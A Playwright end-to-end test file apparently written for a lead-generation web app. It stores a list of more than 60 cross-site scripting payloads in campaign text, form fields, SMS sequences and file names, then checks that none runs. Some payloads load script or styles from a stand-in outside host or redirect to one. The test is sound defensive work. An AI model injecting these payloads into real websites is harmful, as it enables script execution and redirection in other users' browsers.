import type { Page } from 'playwright-core';
import { waitForNoRequests } from '../testing/browser';
import { type CreatedCampaign, createCampaign, createLead, viewLandingPage } from '../testing/create-campaign';
import { createClient, type CreatedClient } from '../testing/create-client';
import { useHarness } from '../testing/harness';

declare global {
  interface Window {
    /** Set when injected markup runs. */
    ran?: string;
  }
}

const run = 'window.ran=1';
const elements = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></mtext><script>${run}</script></math>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
  `<base href="//elsewhere.example/">`,
  `<meta http-equiv="refresh" content="0;url=//elsewhere.example">`,
  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
  `<style>@import '//elsewhere.example/x.css';</style>`,
  `<form action=//elsewhere.example><button>Win</button></form>`,
  `<a href="javascript:${run}">Win</a>`,
  `<a href="jav&#x09;ascript:${run}">Win</a>`,
  `<plaintext>`,
  `<!--`,
  `<dialog open>Sign in again</dialog>`,
];
const handlers = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'input autofocus onfocus',
    'details open ontoggle',
    'video src=x onerror',
    'audio src=x onerror',
    'marquee onstart',
  ],
  ...[
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'iframe onload',
    'object data=x onerror',
    'p style=animation-name:x onanimationstart',
    'image src=x onerror',
  ],
].map((start) => `<${start}=${run}>`);
const attributes = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `\` onmouseover=${run} \``,
  `x onmouseover=${run}`,
  `" style="background:url(//elsewhere.example)`,
];
const others = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `';${run};//`,
  `";${run};//`,
];
const payloads = [...elements, ...handlers, ...attributes, ...others];

/** Any value of a text field is displayed as text and never interpreted as markup. */
describe('markup in text fields', () => {
  const harness = useHarness();
  let admin: Page;
  let page: Page;
  let client: CreatedClient;
  const campaigns: CreatedCampaign[] = [];

  beforeAll(async () => {
    ({ page: admin } = await harness.admin());
    ({ page } = await harness.openSession());
    client = await createClient(admin.context(), { businessName: elements[0], authEnabled: false });
    expect(
      (
        await admin.request.put(`/api/clients/${client.id}`, {
          data: { webhooksEnabled: true, monthlyCampaignLimit: 100 },
        })
      ).ok(),
    ).toBe(true);
    for (const [nth, payload] of payloads.entries()) {
      const texts = {
        name: payload,
        headline: payload,
        subheadline: payload,
        thankYouMessage: payload,
        submitButtonText: payload.slice(0, 40),
        disclosure: payload,
      };
      const formFields = [
        { id: 'fullName', type: 'text', label: payload, placeholder: payload },
        { id: 'pick', type: 'select', label: `Pick ${payload}`, options: [payload, 'other'], required: false },
        { id: 'notes', type: 'textarea', label: `Notes ${payload}`, placeholder: payload, required: false },
      ];
      const campaign = await createCampaign(admin.context(), client.id, { ...texts, slug: `offer-${nth}`, formFields });
      campaigns.push(campaign);
      await createLead(
        admin.context(),
        client.id,
        campaign,
        { fullName: payload, pick: payload, notes: payload },
        encodeURIComponent(payload),
      );
      await viewLandingPage(admin.context(), client.id, campaign, encodeURIComponent(payload));
      const sequence = {
        name: payload,
        description: payload,
        campaignId: campaign.id,
        triggerEvent: 'lead_contacted',
        steps: [{ delayMinutes: 1, message: `Hi ${payload}`.replaceAll(/[{}]/g, '|') }],
      };
      const created = await admin.request.post(`/api/clients/${client.id}/sms-sequences`, { data: sequence });
      if (!created.ok()) throw new Error(`${payload}: ${await created.text()}`);
    }
  }, 240_000);

  const expectNoMarkup = async (target: Page) => {
    expect(await target.evaluate(() => window.ran)).toBeUndefined();
    expect(
      await target.evaluate(() =>
        [
          ...document.querySelectorAll(
            'plaintext, marquee, dialog[open]:not([role]), base[href], meta[http-equiv=refresh], [onerror], [onload], [onfocus]',
          ),
        ].map(({ outerHTML }) => outerHTML),
      ),
    ).toEqual([]);
    // Any other effect, including a policy violation, appears as a console error or a request to another site.
    expect(harness.errorLog.pageErrors).toEqual([]);
  };

  it(`is displayed as text on a landing page and its thank-you page (${payloads.length} payloads)`, async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60);
    for (const [nth, { landingUrl }] of campaigns.entries()) {
      await page.goto(landingUrl);
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(payloads[nth]);
      expect(await page.title()).toContain(payloads[nth]!.trim());
      await page.locator('[name=fullName]').fill(payloads[nth]!);
      await page.locator('button[type=submit]').click();
      await page.getByText(payloads[nth]!, { exact: true }).first().waitFor();
      await expectNoMarkup(page);
    }
  });

  it('is displayed as text on every screen of the client and the agency', async () => {
    for (const [path, tabs] of [
      [`/client/dashboard/${client.id}`, true],
      [`/client/${client.id}`, true],
      ['/admin', true],
      [`/client/dashboard/${client.id}?tab=leads&view=spam`, false],
    ] as const) {
      await admin.goto(path);
      await admin.getByRole('heading', { level: 1 }).first().waitFor();
      const count = tabs ? await admin.getByRole('tab').count() : 0;
      if (tabs) expect(count).toBeGreaterThan(3);
      for (let nth = 0; nth < count; nth += 1) {
        await admin.getByRole('tab').nth(nth).click();
        await waitForNoRequests(admin);
        await expectNoMarkup(admin);
      }
      await expectNoMarkup(admin);
    }
  });

  it('is displayed as text in the builder, its preview and the lead dialog', async () => {
    for (const [nth, { id }] of [...campaigns.entries()].filter(([nth]) => nth % 6 === 0)) {
      await admin.goto(`/client/${client.id}/campaign/${id}`);
      const preview = admin.frameLocator('iframe').first();
      await preview.getByRole('heading', { level: 1 }).waitFor();
      expect(await preview.getByRole('heading', { level: 1 }).textContent()).toBe(payloads[nth]);
      await expectNoMarkup(admin);
    }
    await admin.goto(`/client/${client.id}?tab=leads`);
    await admin
      .getByRole('button', { name: /^View / })
      .first()
      .click();
    await admin.getByRole('dialog').waitFor();
    await waitForNoRequests(admin);
    await expectNoMarkup(admin);
  });

  it('is displayed as text in file names', async () => {
    for (const payload of elements.slice(0, 6)) {
      const { uploadURL } = (await (
        await admin.request.post('/api/objects/upload', { data: { clientId: client.id } })
      ).json()) as { uploadURL: string };
      await admin.request.put(uploadURL, {
        data: Buffer.from('%PDF-1.4\n'),
        headers: { 'content-type': 'application/pdf' },
      });
      const data = {
        objectURL: uploadURL,
        fileName: payload,
        fileSize: 9,
        mimeType: 'application/pdf',
        clientId: client.id,
      };
      expect((await admin.request.put('/api/objects/set-path', { data })).ok()).toBe(true);
    }
    await admin.goto(`/client/${client.id}?tab=files`);
    await admin.getByText(elements[0]!, { exact: true }).last().waitFor();
    await expectNoMarkup(admin);
  });
});
